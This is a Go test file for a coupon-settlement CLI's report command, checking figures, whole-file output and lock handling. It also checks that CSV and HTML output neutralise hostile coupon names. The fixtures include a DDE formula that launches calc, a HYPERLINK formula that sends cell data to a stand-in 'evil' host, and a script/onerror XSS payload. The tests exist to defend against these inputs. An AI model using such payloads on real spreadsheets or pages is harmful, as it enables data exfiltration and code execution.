@@ -1,0 +1,266 @@
+package cli
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/redis/go-redis/v9"
+	"github.com/stretchr/testify/require"
+	"golang.org/x/net/html"
+
+	"github.com/jajeong/jajeong/internal/ledger"
+)
+
+// finance makes two coupons, one of them with a name that would do harm, and settles two days.
+func finance(w *world) {
+	opens, closes := kst("2025-11-10 00:00:00"), kst("2025-12-10 00:00:00")
+	first, second := w.couponBetween(2, opens, closes), w.couponBetween(500, opens, closes)
+	w.exec("UPDATE coupon SET discount_won = 1500000 WHERE id = ?", first)
+	w.exec("UPDATE coupon SET discount_won = 5000, name = ? WHERE id = ?", `=HYPERLINK("http://evil/?"&A1,"<b>당첨</b>")`, second)
+	w.users(between(1, 9)...)
+	w.exec("UPDATE `user` SET status = 'BLOCKED' WHERE id = 4")
+	w.stand(first, "1", kst("2025-11-20 10:00:00"))
+	w.stand(first, "4", kst("2025-11-20 10:00:01"))
+	w.stand(first, "2", kst("2025-11-20 23:59:59.999999"))
+	w.stand(first, "3", kst("2025-11-21 00:00:00"))
+	w.stand(second, "5", kst("2025-11-20 15:30:00"))
+	w.stand(second, "6", kst("2025-12-01 00:00:00"))
+	for _, date := range []string{"2025-11-20", "2025-11-21"} {
+		code, _, stderr := w.settle("run", "--date="+date, "--operator=kim", "--reason=test")
+		require.Zero(w.t, code, stderr)
+	}
+	w.exec("UPDATE run_coupon SET duration_ms = 12")
+	require.NoError(w.t, w.rdb.HIncrBy(w.t.Context(), "state:{"+w.queue(second)+"}", "accepted", -3).Err()) // a gap below zero
+	w.exec("UPDATE promise SET accepted = 0 WHERE coupon_id = ?", second)
+}
+
+func kst(text string) time.Time {
+	zone, err := time.LoadLocation("Asia/Seoul")
+	if err != nil {
+		panic(err)
+	}
+	at, err := time.ParseInLocation("2006-01-02 15:04:05.999999", text, zone)
+	if err != nil {
+		panic(err)
+	}
+	return at
+}
+
+func TestGoldenReport(t *testing.T) {
+	t.Parallel()
+	inBothLanguages(t, "report", finance, func(s *spoken) {
+		s.says("report", "--date=2025-11-20")
+		s.says("report", "--month=2025-11", "--output=csv")
+		s.says("report", "--date=2025-11-21", "--coupon=1", "--output=json")
+		s.says("report", "--date=2025-11-20", "--output=html")
+		s.says("report", "--month=2024-02")
+		s.says("report", "--month=2024-02", "--output=html")
+	})
+}
+
+type reportJSON struct {
+	From, To time.Time
+	Coupons  []ledger.CouponReport
+	Total    ledger.Counts
+}
+
+func (w *world) report(args ...string) (r reportJSON) {
+	w.t.Helper()
+	code, stdout, stderr := w.settle(append([]string{"report", "--output=json"}, args...)...)
+	require.Zero(w.t, code, stderr)
+	require.NoError(w.t, json.Unmarshal([]byte(stdout), &r))
+	return r
+}
+
+// The figures are those of the applications, whatever the form, and neither a rerun nor a second look changes them.
+func TestReportFigures(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	finance(w)
+	r := w.report("--date=2025-11-20")
+	require.Equal(t, kst("2025-11-20 00:00:00").UTC(), r.From.UTC())
+	require.Equal(t, kst("2025-11-21 00:00:00").UTC(), r.To.UTC())
+	require.Equal(t, [3]int64{4, 3, 1}, [3]int64{r.Total.Applications, r.Total.Issued, r.Total.UnderReview})
+	require.Equal(t, "3005000", r.Total.ValueWon.String())
+	require.EqualValues(t, 1, w.report("--date=2025-11-21").Total.NotSelected)
+	month := w.report("--month=2025-11")
+	require.Equal(t, [2]int64{5, 3}, [2]int64{month.Total.Applications, month.Total.Issued})
+	require.EqualValues(t, 1, w.report("--month=2025-12").Total.Waiting)
+
+	page := func(output string) string {
+		_, stdout, _ := w.settle("report", "--lang=en", "--date=2025-11-20", "--output="+output)
+		return regexp.MustCompile(`generated at [^<\n]*|"generatedAt": .*`).ReplaceAllString(stdout, "")
+	}
+	for _, output := range []string{"table", "csv", "json", "html"} {
+		before := page(output)
+		w.settleNow("--coupon=1")
+		require.Equal(t, before, page(output), "settling what is settled changes no figure")
+	}
+}
+
+func TestReportGoesToAFileAsAWhole(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	finance(w)
+	folder := t.TempDir()
+	path := filepath.Join(folder, "report.csv")
+	_, want, _ := w.settle("report", "--date=2025-11-20", "--output=csv")
+	code, stdout, stderr := w.settle("report", "--date=2025-11-20", "--output=csv", "--out="+path)
+	require.Zero(t, code, stderr)
+	require.Empty(t, stdout)
+	require.Contains(t, stderr, path)
+	got, err := os.ReadFile(path)
+	require.NoError(t, err)
+	require.Equal(t, want, string(got))
+	files, err := os.ReadDir(folder)
+	require.NoError(t, err)
+	require.Len(t, files, 1)
+}
+
+// While somebody holds a coupon's row, the others are reported, and every form says what is missing in it.
+func TestReportBesideACouponThatIsHeld(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	opens, closes := kst("2025-11-10 00:00:00"), kst("2025-12-10 00:00:00")
+	free, held := w.couponBetween(2, opens, closes), w.couponBetween(2, opens, closes)
+	w.exec("UPDATE coupon SET name = '=1+1' WHERE id = ?", held)
+	w.stand(free, "1", kst("2025-11-20 10:00:00"))
+	w.stand(held, "1", kst("2025-11-20 10:00:00"))
+	require.NoError(t, w.rdb.HIncrBy(t.Context(), "state:{"+w.queue(held)+"}", "accepted", 1).Err()) // a gap is looked at under the lock
+	tx, err := w.db.Begin()
+	require.NoError(t, err)
+	t.Cleanup(func() { _ = tx.Rollback() })
+	_, err = tx.Exec("SELECT id FROM coupon WHERE id = ? FOR UPDATE", held)
+	require.NoError(t, err)
+	for output, says := range map[string]string{
+		"table": "coupon 2 =1+1 could not be read, since something else held it.",
+		"html":  `<p class="bad">coupon 2 =1&#43;1 could not be read, since something else held it.`,
+		"csv":   "\r\n2025-11-20,2,'=1+1,,,,,,,,,,,,",
+		"json":  `"coupon": 2,` + "\n" + `      "name": "=1+1",`,
+	} {
+		t.Run(output, func(t *testing.T) {
+			t.Parallel()
+			code, stdout, stderr := w.settle("report", "--lang=en", "--date=2025-11-20", "--output="+output)
+			require.Equal(t, exitInfrastructure, code)
+			require.Contains(t, stdout, says)
+			require.Contains(t, stdout, "심야 쿠폰")
+			require.Contains(t, stderr, "settle: report coupon 2: Error 1205")
+			require.Contains(t, stderr, "safe to run again")
+		})
+	}
+}
+
+// A name is what somebody typed. No spreadsheet may take it for a formula, and every row must stay one.
+func TestHostileNamesInCSV(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	names := []string{
+		`=cmd|' /C calc'!A0`, "+82 10", "-1+2", "@SUM(1,1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠a", " =1", "\u00a0@a",
+		`a",=1,"b`, "a\r\n=1,2", "심야 쿠폰, \"최대\" 50%", "'=1", "1e5", "",
+	}
+	for _, name := range names {
+		coupon := w.couponBetween(3, kst("2025-11-20 00:00:00"), kst("2025-11-21 00:00:00"))
+		w.exec("UPDATE coupon SET name = ? WHERE id = ?", name, coupon)
+	}
+	require.NoError(t, w.rdb.ZAdd(t.Context(), w.queue(1), redis.Z{Score: float64(kst("2025-11-20 01:00:00").UnixMicro()), Member: "7"}).Err()) // nobody promised it: a gap of -1
+	code, stdout, stderr := w.settle("report", "--lang=en", "--date=2025-11-20", "--output=csv")
+	require.Zero(t, code, stderr)
+	require.True(t, strings.HasPrefix(stdout, "\xEF\xBB\xBFperiod,coupon_id,name,"))
+	require.NotContains(t, strings.ReplaceAll(stdout, "\r\n", ""), "\n", "every line ends as Excel expects")
+	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(stdout, "\xEF\xBB\xBF"))).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, rows, 1+len(names))
+	for i, row := range rows[1:] {
+		for column, cell := range row {
+			if rows[0][column] == "gap" {
+				require.Equal(t, map[bool]string{true: "-1", false: "0"}[i == 0], cell, "a number stays one")
+				continue
+			}
+			require.NotRegexp(t, "^[ \u00a0]*[=+\\-@\t\r\n＝＋－＠]", cell, "%s of %q", rows[0][column], names[i])
+		}
+		if plain := strings.NewReplacer("\t", " ", "\r", " ", "\n", " ").Replace(names[i]); plain != "" {
+			require.Contains(t, []string{plain, "'" + plain}, row[2])
+		}
+	}
+	require.Equal(t, "심야 쿠폰, \"최대\" 50%", rows[16][2], "what does no harm stays as it is")
+}
+
+// The page carries all it needs, runs nothing, asks nobody, and shows every name as text.
+func TestReportPageStandsAlone(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	finance(w)
+	w.exec("UPDATE coupon SET name = ? WHERE id = 1", `"><script>alert(1)</script><img src=http://evil/x onerror=alert(1)>`)
+	for _, lang := range []string{"ko", "en"} {
+		code, stdout, stderr := w.settle("report", "--lang="+lang, "--month=2025-11", "--output=html")
+		require.Zero(t, code, stderr)
+		doc, err := html.Parse(strings.NewReader(stdout))
+		require.NoError(t, err)
+		elements := map[string]int{}
+		var text bytes.Buffer
+		var walk func(n *html.Node)
+		walk = func(n *html.Node) {
+			if n.Type == html.ElementNode {
+				elements[n.Data]++
+				for _, a := range n.Attr {
+					require.NotContains(t, []string{"src", "href", "srcset", "action", "data"}, a.Key)
+					require.False(t, strings.HasPrefix(a.Key, "on"), a.Key)
+					if n.Data == "html" {
+						require.Equal(t, lang, a.Val)
+					}
+				}
+			}
+			if n.Type == html.TextNode {
+				text.WriteString(n.Data + "\n")
+			}
+			for child := range n.ChildNodes() {
+				walk(child)
+			}
+		}
+		walk(doc)
+		for _, unwanted := range []string{"script", "img", "link", "iframe", "object", "form", "b"} {
+			require.Zero(t, elements[unwanted], unwanted)
+		}
+		require.Equal(t, 2, elements["svg"])
+		require.Equal(t, 2, elements["table"])
+		require.Equal(t, 1+2+1+1+3, elements["tr"], "of coupons with their sums, and of three deeds")
+		require.GreaterOrEqual(t, elements["rect"], 3, "an outcome each")
+		require.Contains(t, text.String(), "<script>alert(1)</script>")
+		require.Contains(t, text.String(), "3,005,000")
+		require.NotRegexp(t, `url\(|@import`, stdout)
+		_, chart, _ := strings.Cut(stdout, `id="timeline"`)
+		chart, _, _ = strings.Cut(chart, "</figure>")
+		require.NotRegexp(t, `[xy]="-|\d{7}`, chart, "nothing is drawn outside the chart")
+	}
+}
+
+func TestLevelsOfAChart(t *testing.T) {
+	t.Parallel()
+	for most, want := range map[int64]string{
+		1: "0 1", 4: "0 1 2 3 4", 5: "0 1 2 3 4 5", 6: "0 2 4 6", 7: "0 2 4 6 8", 11: "0 5 10 15", 26: "0 10 20 30", 99: "0 20 40 60 80 100",
+		101: "0 50 100 150", 12_345: "0 5,000 10,000 15,000", 1_000_000: "0 200,000 400,000 600,000 800,000 1,000,000",
+	} {
+		var got []string
+		for _, tick := range levelsUpTo(most) {
+			got = append(got, tick.Label)
+		}
+		require.Equal(t, want, strings.Join(got, " "), most)
+	}
+}
+
+func TestGrouped(t *testing.T) {
+	t.Parallel()
+	for number, want := range map[string]string{
+		"0": "0", "-1": "-1", "999": "999", "1000": "1,000", "-1000": "-1,000", "123456": "123,456", "-123456": "-123,456",
+		"166020696663385964526": "166,020,696,663,385,964,526",
+	} {
+		require.Equal(t, want, grouped(number))
+	}
+}
